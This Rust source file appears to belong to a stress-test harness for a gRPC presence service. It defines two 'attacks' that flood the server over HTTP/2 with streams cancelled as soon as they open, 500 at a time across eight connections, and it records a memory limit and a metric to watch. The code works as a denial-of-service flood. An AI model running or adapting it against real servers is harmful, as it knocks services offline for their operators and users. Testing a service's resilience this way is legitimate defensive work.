//! Requests by gRPC that are cancelled as soon as they are begun, as fast as they are taken.

use futures_util::{FutureExt as _, future::BoxFuture};

use crate::{
    attack::{Attack, From, many},
    front::Front,
    http2::{ASK, Frame, Http2},
    target::Addresses,
};

const CONNECTIONS: usize = 8;

/// How many are sent at once.
const AT_ONCE: usize = 500;

const MEMORY_MAX: u64 = 256;

/// The head of a request for a watch.
const WATCH: Frame = Frame {
    kind: 1,
    flags: 4,
    payload: b"\x83\x86\x04\x27/headcount.v1.PresenceService/WatchRoom\x01\x01h\x0f\x10\x10application/grpc",
};

/// The only message of a request for a room of the app that ZEGO sends to.
const ROOM: Frame = Frame {
    kind: 0,
    flags: 1,
    payload: b"\0\0\0\0\x0d\x0a\x04demo\x12\x05lobby",
};

const CANCEL: Frame = Frame {
    kind: 3,
    flags: 0,
    payload: b"\0\0\0\x08",
};

pub(crate) const WITHOUT_MESSAGES: Attack = Attack {
    name: "cancelled requests",
    memory_max: MEMORY_MAX,
    run: |to| flood(to, &[ASK, CANCEL]),
    shows: Some("headcount_grpc_reads_deferred_total"),
    ..Attack::ON_EMPTY
};

pub(crate) const WATCHES: Attack = Attack {
    name: "cancelled watches",
    memory_max: MEMORY_MAX,
    run: |to| flood(to, &[WATCH, ROOM, CANCEL]),
    shows: Some("headcount_grpc_reads_deferred_total"),
    ..Attack::ON_EMPTY
};

fn flood(to: Addresses, request: &'static [Frame]) -> BoxFuture<'static, ()> {
    let once = move |attacker| send(attacker, to.grpc, request);
    many(CONNECTIONS, once).boxed()
}

/// Sends until the connection is closed.
async fn send(attacker: usize, to: Front, request: &'static [Frame]) {
    let Ok(stream) = From::Strangers(2).connect(attacker, to).await else {
        return;
    };
    let mut http2 = Http2::new(stream);
    let mut streams = (1..).step_by(2);
    loop {
        let these = streams.by_ref().take(AT_ONCE);
        let frames =
            these.flat_map(|stream| request.iter().flat_map(move |frame| frame.on(stream)));
        if http2.send(&frames.collect::<Vec<_>>()).await.is_err() {
            return;
        }
    }
}
